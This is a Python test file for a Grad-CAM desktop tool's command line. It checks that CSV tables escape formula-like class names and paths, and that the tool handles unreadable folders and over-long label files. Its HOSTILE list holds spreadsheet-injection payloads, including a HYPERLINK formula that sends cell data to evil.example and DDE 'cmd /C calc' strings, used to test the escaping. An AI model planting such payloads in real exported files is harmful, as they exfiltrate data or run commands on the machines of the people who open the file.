"""Issue 18 on the command line: hostile class names and paths in the tables `gradcam triage` and
`gradcam batch` write, line separators in paths, unreadable class folders and skipped pictures in
the summary, an over-long labels CSV refused in one line.

The model is the demo model's file beside a hostile labels sidecar (class names a spreadsheet
would run). Expected cells are written by hand from the OWASP rule (a leading ``'`` before
``= + - @``, tab, CR), and the tables are parsed with the csv module. Summaries are counted from
the written table by hand.
"""

from __future__ import annotations

import csv
import errno
import json
import os
import shutil
from pathlib import Path

import cv2
import numpy as np
import pytest

from gradcam_desktop.cli import main
from gradcam_desktop.core import assets, demo_data, labels
from gradcam_desktop.core.triage import TRIAGE_FIELDS

#: The demo model's four classes renamed, and what each must be in a written table.
HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
           "two\nlines, \"quoted\"", "-2+3+cmd|' /C calc'!A0"]
WRITTEN = ['\'=HYPERLINK("http://evil.example/?d="&A1,"click")', "'@SUM(1+1)*cmd|' /C calc'!A0",
           "two\nlines, \"quoted\"", "'-2+3+cmd|' /C calc'!A0"]


def run(capsys, *argv) -> tuple[int, str, str]:
    code = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return code, out, err


def read_table(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def draw(path: Path, cls: int, seed: int) -> Path:
    rgb, _, _ = demo_data.make_sample(np.random.default_rng(seed), (120, 150), cls)
    path.parent.mkdir(parents=True, exist_ok=True)
    ok, encoded = cv2.imencode(".png", np.ascontiguousarray(rgb[:, :, ::-1]))
    assert ok
    path.write_bytes(encoded.tobytes())  # cv2.imwrite does not take every name (U+2028)
    return path


@pytest.fixture(scope="module")
def hostile_model(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("model")
    model = folder / "hostile.keras"
    shutil.copyfile(assets.asset_path("demo_model.keras"), model)
    (folder / "hostile.labels.json").write_text(json.dumps(HOSTILE), encoding="utf-8")
    return model


def test_formula_names_and_paths_are_neutralised_in_every_table(capsys, tmp_path, monkeypatch, hostile_model):
    monkeypatch.chdir(tmp_path)  # the CSV named relatively: its paths are written as they are given
    names = ["@evil.png", "+evil.png", "-evil.png", "=evil.png", "line\u2028sep.png", "plain.png"]
    for i, name in enumerate(names):
        draw(tmp_path / name, i % 4, 40 + i)
    Path("labels.csv").write_text("path,label\n" + "".join(f"{name},{i % 4}\n" for i, name in enumerate(names)),
                                  encoding="utf-8")
    code, stdout, err = run(capsys, "triage", "--model", hostile_model, "--out-dir", "out", "--explain", "none",
                            "labels.csv", "--json")
    assert code == 0, err
    table = read_table(tmp_path / "out" / "triage.csv")
    assert table[0] == TRIAGE_FIELDS and len(table) == 1 + len(names)  # the U+2028 path is one row
    rows = [dict(zip(TRIAGE_FIELDS, line)) for line in table[1:]]
    assert [r["image"] for r in rows] == ["'@evil.png", "'+evil.png", "'-evil.png", "'=evil.png",
                                          "line\u2028sep.png", "plain.png"]
    assert all(r["error"] == "" for r in rows)  # every picture read, the U+2028 one too
    assert [r["true_name"] for r in rows] == [WRITTEN[i % 4] for i in range(len(names))]
    assert all(r["predicted_name"] == WRITTEN[int(r["predicted_index"])] for r in rows)
    assert all((float(r["margin"]) > 0) == (r["correct"] == "true") for r in rows)  # numbers, signed, unprefixed
    confusion = read_table(tmp_path / "out" / "confusion.csv")
    assert confusion[0] == ["true \\ predicted", *WRITTEN] and [line[0] for line in confusion[1:]] == WRITTEN
    data = json.loads(stdout)
    assert data["classes"] == HOSTILE and data["count"] == len(names) and data["errors"] == 0

    code, _, err = run(capsys, "batch", "--model", hostile_model, "--out-dir", "maps", "=evil.png", "@evil.png")
    assert code == 0, err
    results = read_table(tmp_path / "maps" / "results.csv")
    header = results[0]
    written = [dict(zip(header, line)) for line in results[1:]]
    assert [w["image"] for w in written] == ["'=evil.png", "'@evil.png"]
    assert [w["predicted_name"] for w in written] == [WRITTEN[int(w["predicted_index"])] for w in written]
    assert [w["explained_name"] for w in written] == [WRITTEN[int(w["explained_index"])] for w in written]


def _folder(root: Path) -> None:
    for cls, name in enumerate(demo_data.CLASS_NAMES):
        for i in range(2):
            draw(root / name / f"{name}{i}.png", cls, 10 * cls + i)
    draw(root / "unicorn" / "u0.png", 0, 99)  # a label of no class: skipped, counted


def test_an_unreadable_class_folder_is_an_error_in_the_summary(capsys, tmp_path, monkeypatch):
    root = tmp_path / "labelled"
    _folder(root)
    denied = str(root / "square")
    real = os.scandir

    def scandir(path="."):
        if os.fspath(path) == denied:  # tests run as root: chmod 000 would not stop a read
            raise PermissionError(errno.EACCES, "Permission denied", denied)
        return real(path)

    monkeypatch.setattr(os, "scandir", scandir)
    code, stdout, err = run(capsys, "triage", "--model", "demo", "--out-dir", tmp_path / "out", "--explain", "none",
                            root)
    assert code == 1  # like an unreadable picture: the run failed, after writing the tables
    table = [dict(zip(TRIAGE_FIELDS, line)) for line in read_table(tmp_path / "out" / "triage.csv")[1:]]
    assert len(table) == 6 + 1  # three classes of two pictures, and the folder
    (folder,) = [r for r in table if r["error"]]
    assert (folder["image"], folder["true_name"], folder["correct"]) == (denied, "square", "")
    assert "cannot be read (permission denied)" in folder["error"]
    assert any(line.startswith("Skipped: Class folder") and "square" in line for line in err.splitlines())
    right = sum(r["correct"] == "true" for r in table)
    expected = f"Accuracy {right / 7 * 100:.1f} % ({right} of 7 right; 1 could not be read (1 of them class folder)"
    assert expected in stdout and f"{right / 6 * 100:.1f} % of the 6 read" in stdout
    assert "Accuracy 100.0 %" not in stdout
    assert "Skipped 1 picture whose label names no class" in stdout
    assert [line for line in err.splitlines() if line.startswith("Warning:")][0].count("'unicorn' (1)") == 1

    code, stdout, _ = run(capsys, "triage", "--model", "demo", "--out-dir", tmp_path / "json", "--explain", "none",
                          root, "--json")
    data = json.loads(stdout)
    assert (data["count"], data["errors"], data["unreadable_folders"], data["skipped"]) == (7, 1, 1, 1)
    assert data["accuracy"] == pytest.approx(right / 7, abs=1e-12) and data["accuracy"] < 1
    assert data["accuracy_read"] == pytest.approx(right / 6, abs=1e-12)


def test_a_link_to_a_missing_class_folder_is_an_error_too(capsys, tmp_path):
    root = tmp_path / "labelled"
    _folder(root)
    shutil.rmtree(root / "star")
    (root / "star").symlink_to(tmp_path / "not_mounted")
    code, stdout, err = run(capsys, "triage", "--model", "demo", "--out-dir", tmp_path / "out", "--explain", "none",
                            root, "--json")
    assert code == 1
    data = json.loads(stdout)
    assert (data["count"], data["errors"], data["unreadable_folders"]) == (7, 1, 1)
    assert "not_mounted, which does not exist" in err


def test_a_labels_csv_over_the_limit_is_refused_in_one_line(capsys, tmp_path, monkeypatch):
    monkeypatch.setattr(labels, "MAX_PICTURES", 3)
    listing = tmp_path / "labels.csv"
    listing.write_text("".join(f"p{i}.png,circle\n" for i in range(4)), encoding="utf-8")
    code, stdout, err = run(capsys, "triage", "--model", "demo", "--out-dir", tmp_path / "out", listing)
    assert code == 1 and stdout == ""
    assert err.startswith("Error: ") and "more than 3 pictures" in err and len(err.strip().splitlines()) == 1
    assert not (tmp_path / "out").exists()  # refused before anything was written
